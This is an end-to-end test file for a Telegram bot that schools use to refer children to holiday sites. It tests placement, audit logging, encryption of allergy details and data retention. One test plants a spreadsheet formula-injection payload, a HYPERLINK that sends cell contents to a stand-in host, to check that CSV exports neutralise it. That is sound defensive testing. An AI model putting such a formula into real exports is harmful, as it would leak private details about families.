"""Referrals from the coordinators' side: a new referral arrives without details, is opened
(audited), placed where there is room, the school is told at every step, the site lead sees
the register with allergies flagged, and the details are gone after the retention period."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime, time
from pathlib import Path

from bot.config import Config
from bot.harness import Clock, Rehearsal
from storage import audit, invites, locations, referrals, rota
from storage.referrals import ReferralForm
from tests.conftest import RACHEL
from tests.e2e.test_joining import register
from tests.support import register_by_invite

OKAFOR, BROOK, SAM = 2001, 2002, 3001
ALLERGY = "Child 2: severe peanut allergy (EpiPen in bag)"


async def contact(bot: Rehearsal, telegram_id: int, school: str) -> None:
    db, now = bot.services.db, bot.services.now()
    await register_by_invite(
        db,
        now,
        telegram_id=telegram_id,
        name=school,
        role=invites.Role.SCHOOL_CONTACT,
        by=RACHEL,
        school_name=school,
    )


async def referred(bot: Rehearsal) -> int:
    """Rachel, St Mark's (room for 30 a day), Mr Okafor at Hillside with HS-014 sent."""
    await register(bot, RACHEL, "Rachel")
    db, now = bot.services.db, bot.services.now()
    location = await locations.create(db, actor_telegram_id=RACHEL, name="St Mark's", now=now)
    await locations.update_field(
        db,
        actor_telegram_id=RACHEL,
        location_id=location.location_id,
        field=locations.Field.CAPACITY,
        value=30,
        now=now,
    )
    await contact(bot, OKAFOR, "Hillside Primary")
    cipher = bot.services.cipher
    assert cipher is not None
    sent = await referrals.submit(
        db,
        cipher,
        telegram_id=OKAFOR,
        now=now,
        daily_limit=10,
        form=ReferralForm(
            reference="HS-014",
            children=2,
            age_bands=("Year 2", "Year 5"),
            needs=ALLERGY,
            note=None,
            preferred_location_ids=(location.location_id,),
            first_day=date(2026, 7, 28),
            last_day=date(2026, 8, 27),
            weekdays=(1, 3),
            consent=True,
        ),
    )
    await bot.deliver()
    return sent.referral_id


async def test_a_referral_goes_from_submission_to_placement_to_attendance(
    bot: Rehearsal, clock: Clock
) -> None:
    await referred(bot)
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    assert (
        rachel.last.text == "📥 A new referral from Hillside Primary: 2 children. Open it "
        "with /referrals."
    )

    await rachel.send("/referrals")
    assert "• New (1)" in rachel.last.labels()
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    assert f"⚠️ Needs and allergies: {ALLERGY}" in rachel.last.text
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's")
    await rachel.tap("✅ Place")
    assert rachel.last.text.startswith("✅ Placed. The school has been told.")
    assert okafor.last.text == (
        "📬 Referral HS-014: placed at St Mark's, Tue & Thu, 28 Jul–27 Aug 2026."
    )
    # Notifications never carry the needs: only screens opened on purpose (and audited) do.
    assert not any(ALLERGY in m.text for m in okafor.bot_messages)

    clock.now = datetime(2026, 7, 28, 7, 0, tzinfo=UTC)
    await rachel.send("/register")
    assert "St Mark's</b>" not in rachel.last.text  # HTML is rendered, not shown
    assert "1 family, 2 children" in rachel.last.text
    assert f"⚠️ {ALLERGY}" in rachel.last.text
    await rachel.tap("HS-014")
    assert "✅ HS-014 (Hillside Primary)" in rachel.last.text
    views = await audit.recent(bot.services.db, action="register.viewed")
    assert len(views) == 2


async def test_declining_tells_the_school_without_the_reason(bot: Rehearsal) -> None:
    await referred(bot)
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("✖ Can't place")
    await rachel.send("Family moved out of the area")
    assert rachel.last.text.startswith("Not placed. The school has been told")
    assert "Reason given: Family moved out of the area" in rachel.last.text
    assert okafor.last.text == (
        "📬 Referral HS-014: not placed this time, sorry. A coordinator can tell you more."
    )


async def test_strangers_cannot_open_a_referral_and_are_audited(bot: Rehearsal) -> None:
    referral_id = await referred(bot)
    await register(bot, SAM, "Sam")
    await contact(bot, BROOK, "Brook Lane")
    sam, brook = bot.user(SAM, "Sam"), bot.user(BROOK, "Brook Lane")
    await brook.send("/whoami")
    await sam.tap_data(f"to:{referral_id}")
    assert "only for coordinators" in sam.last.text
    await brook.tap_data(f"to:{referral_id}")
    assert "only for coordinators" in brook.last.text
    await brook.send("/referrals")
    refusals = await audit.recent(bot.services.db, action="access.refused")
    assert len(refusals) == 3
    assert await audit.recent(bot.services.db, action="referral.viewed") == []


async def test_the_database_file_never_holds_the_allergy_in_clear(
    bot: Rehearsal, config: Config
) -> None:
    await referred(bot)
    if not config.database.url.startswith("sqlite"):
        return  # the PostgreSQL files are the server's; the storage tests read its rows
    path = Path(config.database.url.split("///", 1)[1])
    on_disk = b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))
    assert b"peanut" not in on_disk
    assert b"HS-014" in on_disk  # the reference is the school's pseudonym, kept in clear


async def test_after_the_retention_period_the_details_are_gone_and_the_counts_stay(
    bot: Rehearsal, clock: Clock
) -> None:
    await referred(bot)
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's")
    await rachel.tap("✅ Place")
    clock.now = datetime(2026, 10, 27, 9, 0, tzinfo=UTC)  # 61 days after 27 August
    await bot.deliver()
    await rachel.send("/referrals")
    await rachel.tap("• New (0)")
    await rachel.tap("Placed (1)")
    await rachel.tap("(removed) · Hillside Primary · 2 children")
    assert "Its details were removed after the retention period" in rachel.last.text
    assert ALLERGY not in rachel.last.text


async def test_the_morning_list_counts_the_families_without_their_details(
    bot: Rehearsal, clock: Clock
) -> None:
    referral_id = await referred(bot)
    db, now = bot.services.db, bot.services.now()
    st_marks = (await locations.listed(db))[0]
    plan = rota.SessionPlan(
        location_id=st_marks.location_id,
        first_day=date(2026, 7, 28),
        last_day=date(2026, 7, 28),
        weekdays=frozenset({1}),
        start=time(11, 30),
        end=time(13, 30),
        jobs=(rota.JobSpec(job="server", places=2),),
    )
    await rota.create_sessions(
        db, actor_telegram_id=RACHEL, plan=plan, tz=bot.services.settings.timezone, now=now
    )
    await referrals.place(
        db,
        telegram_id=RACHEL,
        referral_id=referral_id,
        version=0,
        location_id=st_marks.location_id,
        first_day=date(2026, 7, 28),
        last_day=date(2026, 8, 27),
        weekdays=(1, 3),
        now=now,
    )
    clock.now = datetime(2026, 7, 28, 7, 0, tzinfo=UTC)  # 08:00 in London
    await bot.deliver()
    rachel = bot.user(RACHEL, "Rachel")
    morning = next(m for m in rachel.bot_messages if m.text.startswith("☀️"))
    assert (
        "👨‍👩‍👧 1 placed family (2 children; ⚠️ 1 with allergies or dietary needs): /register"
    ) in morning.text
    assert "peanut" not in morning.text


async def test_a_placement_can_start_later_than_asked_and_be_changed(bot: Rehearsal) -> None:
    await referred(bot)
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's")
    await rachel.tap("📅 Other dates")
    await rachel.send("sometime soon")
    assert rachel.last.text.startswith("Please send two dates")
    await rachel.send("04/08/2026 - 27/08/2026")
    assert rachel.last.text.startswith("✅ Placed.")
    assert okafor.last.text.endswith("placed at St Mark's, Tue & Thu, 4 Aug–27 Aug 2026.")
    await rachel.tap("⏳ Waiting list")
    assert okafor.last.text == (
        "📬 Referral HS-014: on the waiting list: we'll tell you as soon as there is room."
    )


async def test_exports_of_a_school_and_a_location_are_audited(bot: Rehearsal) -> None:
    await referred(bot)
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📄 School's CSV")
    school_csv = rachel.last
    assert school_csv.filename == "referrals-Hillside-Primary.csv"
    assert school_csv.document is not None
    assert ALLERGY.encode() in school_csv.document
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's")
    await rachel.tap("✅ Place")
    await rachel.tap("📄 Location's CSV")
    assert rachel.last.filename == "referrals-St-Mark-s.csv"
    exports = await audit.recent(bot.services.db, action="referrals.exported")
    assert len(exports) == 2


async def test_the_exported_csv_opens_in_a_spreadsheet_as_words_and_runs_no_formula(
    bot: Rehearsal,
) -> None:
    """Needs typed as a formula, and a note over several lines: the file starts with the
    byte-order mark (Excel reads it as UTF-8), the formula is shown, not run, the weekdays are
    named and the caption counts referrals, not lines."""
    await referred(bot)
    db, now, cipher = bot.services.db, bot.services.now(), bot.services.cipher
    assert cipher is not None
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Zoë: peanuts")'
    await referrals.submit(
        db,
        cipher,
        telegram_id=OKAFOR,
        now=now,
        daily_limit=10,
        form=ReferralForm(
            reference="HS-015",
            children=1,
            age_bands=("Year 1",),
            needs=formula,
            note="-1 child today\n+1 next week",
            preferred_location_ids=(),
            first_day=date(2026, 7, 28),
            last_day=date(2026, 8, 27),
            weekdays=(1, 3),
            consent=True,
        ),
    )
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's")
    await rachel.tap("✅ Place")
    await rachel.send("/referrals")
    await rachel.tap("HS-015 · Hillside Primary · 1 child")
    await rachel.tap("📄 School's CSV")
    assert rachel.last.text.startswith("📄 2 referrals, with their details.")
    data = rachel.last.document
    assert data is not None and data.startswith(codecs.BOM_UTF8)
    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    assert rows["HS-015"]["needs"] == "'" + formula
    assert rows["HS-015"]["note"] == "'-1 child today\n+1 next week"
    assert rows["HS-014"]["weekdays"] == "Tue Thu"
    assert (rows["HS-014"]["from"], rows["HS-014"]["to"]) == ("2026-07-28", "2026-08-27")
    assert rows["HS-015"]["weekdays"] == ""


async def test_a_coordinator_registers_a_partner_school_with_its_area(bot: Rehearsal) -> None:
    await register(bot, RACHEL, "Rachel")
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/schools")
    assert "No partner schools yet" in rachel.last.text
    await rachel.tap("➕ Add a school")
    await rachel.send("Hillside Primary")
    assert "Which area is the school in" in rachel.last.text
    await rachel.send("Northfield")
    assert "Area: Northfield" in rachel.last.text
    await rachel.tap("✉️ Invite a contact")
    assert "one-time invite link for a contact at Hillside Primary" in rachel.last.text
    await rachel.send("/schools")
    assert "• Hillside Primary (Northfield): 0 contacts, 0 referred" in rachel.last.text
